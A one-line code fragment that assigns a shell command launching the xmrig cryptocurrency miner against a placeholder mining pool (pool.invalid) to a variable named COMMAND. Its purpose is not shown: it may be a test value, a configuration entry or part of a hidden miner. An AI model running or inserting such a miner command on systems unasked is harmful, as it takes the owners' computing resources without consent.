COMMAND = "./xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1"
